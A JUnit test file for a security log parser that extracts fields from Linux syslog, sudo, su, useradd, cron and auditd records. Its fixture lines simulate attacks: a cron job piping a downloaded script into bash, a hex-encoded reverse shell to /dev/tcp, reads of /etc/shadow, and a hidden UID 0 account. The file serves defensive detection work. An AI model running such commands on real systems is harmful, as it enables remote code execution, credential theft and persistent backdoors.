package io.cybershield.shield.gateway.triage.logs;

import org.junit.jupiter.api.Test;

import static io.cybershield.shield.gateway.triage.logs.ParsedLines.parsed;

/** Syslog (RFC 3164 and 5424) with sshd, sudo, su and the user tools, and auditd records. Lines written here. */
class LinuxLinesTest {

  @Test
  void sshdFailedPasswordRfc3164() {
    parsed(LogSource.AUTO, "Mar  3 10:15:02 bastion-1 sshd[24811]: Failed password for invalid user oracle from "
        + "203.0.113.45 port 39114 ssh2")
        .is(LogSource.LINUX_AUTH, LogFormat.SYSLOG).has("timestamp", "Mar  3 10:15:02").has("host", "bastion-1")
        .has("program", "sshd").has("pid", "24811").has("user", "oracle").has("src_ip", "203.0.113.45")
        .has("src_port", "39114").has("auth_method", "password").has("outcome", "failure")
        .has("message", "Failed password for invalid user oracle from 203.0.113.45 port 39114 ssh2");
  }

  @Test
  void sshdAcceptedPublickeyRfc5424() {
    parsed(LogSource.LINUX_AUTH, "<38>1 2026-03-03T10:15:09.412Z bastion-1 sshd 24830 - - Accepted publickey for "
        + "deploy from 10.20.1.8 port 50022 ssh2: ED25519 SHA256:abcdEFGH")
        .is(LogSource.LINUX_AUTH, LogFormat.SYSLOG).has("priority", "38").has("host", "bastion-1")
        .has("program", "sshd").has("pid", "24830").has("user", "deploy").has("src_ip", "10.20.1.8")
        .has("auth_method", "publickey").has("outcome", "success").has("timestamp", "2026-03-03T10:15:09.412Z");
  }

  @Test
  void rfc5424StructuredDataIsRead() {
    parsed(LogSource.LINUX_SYSLOG, "<86>1 2026-03-03T10:20:00+01:00 web-3 sudo 991 ID47 [meta sequenceId=\"7\" "
        + "origin=\"10.0.0.3\"] ops : TTY=pts/1 ; PWD=/srv ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx")
        .has("msgid", "ID47").has("sequenceId", "7").has("origin", "10.0.0.3").has("user", "ops")
        .has("target_user", "root").has("command", "/usr/bin/systemctl restart nginx").has("outcome", "success");
  }

  @Test
  void sshdInvalidUserAndPamFailure() {
    parsed(LogSource.LINUX_AUTH, "Mar  3 10:15:01 bastion-1 sshd[24811]: Invalid user oracle from 203.0.113.45 "
        + "port 39114").has("user", "oracle").has("src_ip", "203.0.113.45").has("outcome", "failure");
    parsed(LogSource.LINUX_AUTH, "Mar  3 10:15:02 bastion-1 sshd[24811]: pam_unix(sshd:auth): authentication "
        + "failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.45  user=root")
        .has("user", "root").has("src_ip", "203.0.113.45").has("outcome", "failure").has("tty", "ssh");
  }

  @Test
  void sudoCommand() {
    parsed(LogSource.AUTO, "Mar  3 11:02:40 db-2 sudo:   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
        + "COMMAND=/bin/cat /etc/shadow")
        .is(LogSource.LINUX_AUTH, LogFormat.SYSLOG).has("program", "sudo").lacks("pid").has("user", "alice")
        .has("tty", "pts/0").has("pwd", "/home/alice").has("target_user", "root")
        .has("command", "/bin/cat /etc/shadow").has("outcome", "success");
  }

  @Test
  void sudoRefused() {
    parsed(LogSource.LINUX_AUTH, "Mar  3 11:03:10 db-2 sudo:    mallory : user NOT in sudoers ; TTY=pts/2 ; "
        + "PWD=/tmp ; USER=root ; COMMAND=/bin/bash")
        .has("user", "mallory").has("outcome", "failure").has("reason", "user NOT in sudoers")
        .has("command", "/bin/bash");
  }

  @Test
  void suToRoot() {
    parsed(LogSource.LINUX_AUTH, "Mar  3 11:05:00 db-2 su[3312]: (to root) alice on pts/0")
        .has("program", "su").has("target_user", "root").has("user", "alice").has("outcome", "success");
    parsed(LogSource.LINUX_AUTH, "Mar  3 11:05:30 db-2 su[3318]: FAILED SU (to root) mallory on pts/2")
        .has("target_user", "root").has("user", "mallory").has("outcome", "failure");
  }

  @Test
  void useraddAndGroupChanges() {
    parsed(LogSource.AUTO, "Mar  3 11:10:12 db-2 useradd[4410]: new user: name=sysupd, UID=0, GID=0, home=/root, "
        + "shell=/bin/bash, from=/dev/pts/0")
        .is(LogSource.LINUX_AUTH, LogFormat.SYSLOG).has("program", "useradd").has("target_user", "sysupd")
        .has("UID", "0").has("shell", "/bin/bash");
    parsed(LogSource.LINUX_AUTH, "Mar  3 11:10:20 db-2 usermod[4415]: add 'sysupd' to group 'sudo'")
        .has("target_user", "sysupd").has("group", "sudo");
  }

  @Test
  void cronAndSessionLines() {
    parsed(LogSource.LINUX_SYSLOG, "Mar  3 12:00:01 web-3 CRON[7120]: (www-data) CMD (curl -s http://198.51.100.4/"
        + "x.sh | bash)").has("program", "CRON").has("user", "www-data")
        .has("command", "curl -s http://198.51.100.4/x.sh | bash");
    parsed(LogSource.LINUX_AUTH, "Mar  3 11:05:00 db-2 su[3312]: pam_unix(su:session): session opened for user "
        + "root(uid=0) by alice(uid=1000)").has("target_user", "root").has("user", "alice");
  }

  @Test
  void isoTimestampHeaderAndKernel() {
    parsed(LogSource.LINUX_SYSLOG, "2026-03-03T12:30:00.120+00:00 web-3 kernel: [81234.567] Out of memory: Killed "
        + "process 1234 (java)").has("program", "kernel").has("host", "web-3")
        .has("message", "[81234.567] Out of memory: Killed process 1234 (java)");
  }

  @Test
  void auditdExecveWithHexProctitle() {
    // "bash -i" and "/dev/tcp/203.0.113.9/4444" separated by NUL, hex-encoded the way auditd writes it
    String proctitle = "62617368002D69003E262F6465762F7463702F3230332E302E3131332E392F34343434";
    parsed(LogSource.AUTO, "type=PROCTITLE msg=audit(1772539200.101:5521): proctitle=" + proctitle)
        .is(LogSource.AUDITD, LogFormat.AUDITD).has("type", "PROCTITLE").has("msg_id", "5521")
        .has("proctitle", "bash -i >&/dev/tcp/203.0.113.9/4444").has("timestamp", "1772539200")
        .has("command", "bash -i >&/dev/tcp/203.0.113.9/4444");
  }

  @Test
  void auditdSyscall() {
    parsed(LogSource.AUDITD, "type=SYSCALL msg=audit(1772539200.100:5521): arch=c000003e syscall=59 success=yes "
        + "exit=0 a0=55d0c2a3b4c0 a1=55d0c2a3b500 a2=55d0c2a3b520 a3=0 items=2 ppid=901 pid=4420 auid=1001 uid=1001 "
        + "gid=1001 euid=0 suid=0 fsuid=0 egid=1001 tty=pts0 ses=3 comm=\"python3\" exe=\"/usr/bin/python3.11\" "
        + "key=\"priv_esc\"")
        .has("type", "SYSCALL").has("syscall", "59").has("success", "yes").has("exe", "/usr/bin/python3.11")
        .has("comm", "python3").has("key", "priv_esc").has("uid", "1001").has("auid", "1001").has("euid", "0")
        .has("a0", "55d0c2a3b4c0").has("a3", "0").has("outcome", "success");
  }

  @Test
  void auditdUserAuthWithNestedMessageAndHexCommand() {
    parsed(LogSource.AUDITD, "node=db-2 type=USER_AUTH msg=audit(1772539300.200:610): pid=5120 uid=0 auid=4294967295 "
        + "ses=4294967295 msg='op=PAM:authentication grantors=? acct=\"admin\" exe=\"/usr/sbin/sshd\" "
        + "hostname=203.0.113.45 addr=203.0.113.45 terminal=ssh res=failed'")
        .has("node", "db-2").has("type", "USER_AUTH").has("acct", "admin").has("user", "admin")
        .has("addr", "203.0.113.45").has("src_ip", "203.0.113.45").has("res", "failed").has("outcome", "failure");
    parsed(LogSource.AUDITD, "type=USER_CMD msg=audit(1772539400.000:700): pid=6100 uid=1001 auid=1001 "
        + "msg='cwd=\"/home/alice\" cmd=636174202F6574632F736861646F77 exe=\"/usr/bin/sudo\" terminal=pts/0 "
        + "res=success'").has("cmd", "cat /etc/shadow").has("outcome", "success");
  }

  @Test
  void auditdThroughSyslog() {
    parsed(LogSource.LINUX_SYSLOG, "Mar  3 12:40:00 db-2 audispd: node=db-2 type=EXECVE "
        + "msg=audit(1772539500.000:801): argc=3 a0=\"curl\" a1=\"-o\" a2=\"/tmp/x\"")
        .is(LogSource.AUDITD, LogFormat.AUDITD).has("type", "EXECVE").has("a0", "curl").has("a2", "/tmp/x");
  }
}
